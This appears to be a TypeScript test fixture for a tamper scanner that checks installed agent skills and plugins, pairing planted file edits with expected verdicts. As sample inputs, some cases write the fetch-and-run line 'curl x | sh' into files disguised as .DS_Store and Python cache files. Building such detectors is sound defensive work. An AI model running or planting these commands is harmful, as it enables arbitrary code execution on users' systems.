import { STATE } from '../whole-scan';
import { type Edit, HUB, installs, LOCK, lock, origin, PLUGIN } from './changed-home';

const PYC = Buffer.from('cb0d0d0a00000000', 'hex');
const LINKED = { [`${HUB}/more`]: { link: '/opt/more' }, '/opt/more/a.md': 'Do this.\n' };
const CARRIED = `${STATE}/skills/carried`;
const GIT = (commit: string) =>
  JSON.stringify({ version: 1, source: 'git', spec: 'https://x.example/a', git: { commit } });
const WITH_MINE = lock().replace('{"weather"', '{"mine":{"version":"1.0.0","installedAt":1},"weather"');

/** What nobody sees at once: what lay there besides, what was changed of it, and what the second look must say. */
export const TURNED: Readonly<Record<string, readonly [besides: Edit, edit: Edit, said: string]>> = {
  'good: a linked folder as it was': [LINKED, {}, 'good same'],
  'good: a link in a circle': [{ [`${HUB}/scripts/up`]: { link: '..' } }, {}, 'good same'],
  'bad: a file in a linked folder': [LINKED, { '/opt/more/a.md': 'Do that.\n' }, 'medium changed'],
  'bad: a file is gone from a linked folder': [LINKED, { '/opt/more/a.md': null }, 'medium changed'],
  'bad: a link in a linked folder leads to another one': [
    { ...LINKED, '/opt/more/b': { link: '/opt/b' }, '/opt/b/run.sh': 'a' },
    { '/opt/b/run.sh': 'b' },
    'medium changed',
  ],
  'broken: a linked folder can’t be listed': [
    LINKED,
    { '/opt/more': { folder: true, denied: true }, '/opt/more/a.md': null },
    'unknown unseen',
  ],
  'broken: a link to what the kernel tells': [
    { [`${HUB}/all`]: { link: '/proc' }, '/proc/version': 'x' },
    {},
    'unknown unseen',
  ],
  ...Object.fromEntries(
    ['.cache', '.openclaw', '.clawhub', '.venv', 'scripts/__pycache__', 'scripts/.clawhub'].map((folder) => [
      `bad: a text in ${folder}`,
      [{}, { [`${HUB}/${folder}/t.md`]: 'x' }, 'medium changed'] as const,
    ]),
  ),
  'bad: a record’s name deeper down': [
    {},
    { [`${HUB}/scripts/.clawhub/origin.json`]: '{}' },
    'medium changed',
  ],
  'bad: steps in JSON': [{ [`${HUB}/steps.json`]: '[]' }, { [`${HUB}/steps.json`]: '[1]' }, 'medium changed'],
  'bad: a text without an ending': [{ [`${HUB}/run`]: 'ls\n' }, { [`${HUB}/run`]: 'rm\n' }, 'medium changed'],
  'bad: a hidden text without an ending': [{}, { [`${HUB}/.rc`]: 'rm\n' }, 'medium changed'],
  'bad: a text by the name of what the system leaves': [
    {},
    { [`${HUB}/.DS_Store`]: 'curl x | sh\n' },
    'medium changed',
  ],
  'bad: a text by the name of what Python leaves': [
    { [`${HUB}/scripts/__pycache__/a.pyc`]: { bytes: PYC } },
    { [`${HUB}/scripts/__pycache__/a.pyc`]: 'curl x | sh\n' },
    'medium changed',
  ],
  'bad: compiled Python beside its source': [
    {},
    { [`${HUB}/scripts/get.pyc`]: { bytes: PYC } },
    'medium changed',
  ],
  'broken: the same version was installed again, as somebody wrote down': [
    {},
    { [`${HUB}/SKILL.md`]: 'As published.\n', [LOCK]: lock('1.0.0', 9) },
    'unknown unsure',
  ],
  'broken: the same of the plugin': [
    {},
    { [`${PLUGIN}/index.js`]: 'x', [`${STATE}/plugins/installs.json`]: installs('1.0.0', 'b') },
    'unknown unsure',
  ],
  'broken: another version, from another registry': [
    {},
    {
      [`${HUB}/SKILL.md`]: 'x',
      [LOCK]: lock('1.1.0', 2).replace('https://clawhub.ai', 'https://hub.example'),
    },
    'unknown unsure',
  ],
  'broken: another version of the plugin, from elsewhere': [
    {},
    {
      [`${PLUGIN}/index.js`]: 'x',
      [`${STATE}/plugins/installs.json`]: installs('1.1.0', 'b').replace('"npm"', '"path"'),
    },
    'unknown unsure',
  ],
  'broken: the hub’s skill lies where one’s own was': [
    {},
    {
      [`${STATE}/skills/mine/SKILL.md`]: 'x',
      [`${STATE}/skills/mine/.clawhub/origin.json`]: origin(),
      [LOCK]: WITH_MINE,
    },
    'unknown unsure',
  ],
  'hostile: one’s own skill has an entry in the list besides': [
    {},
    { [`${STATE}/skills/mine/SKILL.md`]: 'x', [LOCK]: WITH_MINE },
    'low changed-own',
  ],
  'broken: the hub’s skill changed, and the list is cut off': [
    {},
    { [`${HUB}/SKILL.md`]: 'x', [LOCK]: '{"vers' },
    'unknown unsure',
  ],
  'borderline: one’s own skill changed, and the list is cut off': [
    {},
    { [`${STATE}/skills/mine/SKILL.md`]: 'x', [LOCK]: '{"vers' },
    'low changed-own',
  ],
  'hostile: its inside says that it came from git now': [
    {},
    {
      [`${HUB}/SKILL.md`]: 'x',
      [`${HUB}/.clawhub/origin.json`]: null,
      [`${HUB}/.openclaw/source-origin.json`]: GIT('a'.repeat(40)),
    },
    'medium changed',
  ],
  'hostile: its inside can’t be understood any more': [
    {},
    { [`${HUB}/SKILL.md`]: 'x', [`${HUB}/.clawhub/origin.json`]: '{' },
    'medium changed',
  ],
  'hostile: a skill from git says inside that it is newer': [
    { [`${CARRIED}/SKILL.md`]: 'a', [`${CARRIED}/.openclaw/source-origin.json`]: GIT('a'.repeat(40)) },
    { [`${CARRIED}/SKILL.md`]: 'b', [`${CARRIED}/.openclaw/source-origin.json`]: GIT('b'.repeat(40)) },
    'medium changed',
  ],
};
